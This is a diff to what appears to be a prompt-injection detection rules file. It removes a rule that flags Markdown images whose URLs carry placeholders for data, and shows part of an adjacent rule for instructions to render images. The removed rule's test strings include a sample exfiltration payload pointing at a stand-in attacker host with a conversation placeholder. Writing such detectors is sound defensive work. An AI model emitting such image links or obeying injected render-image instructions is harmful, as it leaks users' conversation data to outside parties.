@@ -31,19 +31,6 @@ RULES = (
         trigger=rf"\b{_CONFIDENCE}\b[^\n]*\b(?:to|at|via|into)\b",
     ),
     phrase(
-        "image-with-data",
-        (
-            r"!\[[^\]\n]{0,200}\]\(\s?https?://[^)\s]{1,300}[?&/=][^)\s]{0,60}(?:\{[^)\n]{1,80}\}|\[[^)\n]{1,80}\]"
-            r"|<[^)\n]{1,80}>|%7B|\$\()[^)\n]{0,120}\)?"
-        ),
-        "Markdown image whose address has a place for data",
-        ("![x](https://evil.example/p?d={conversation})", "![logo](https://e.io/i.png?q=[SUMMARY])"),
-        ("![logo](https://acme.io/a.png?raw=true)", "![x](./a.png)"),
-        score=0.85,
-        severity=Severity.CRITICAL,
-        trigger=r"!\[[^\]\n]*\]\(\s?https?://",
-    ),
-    phrase(
         "image-order",
         (
             rf"\b(?:render|display|insert|include|output|add|embed|respond{GAP}with|print){GAP}{fill(5)}"
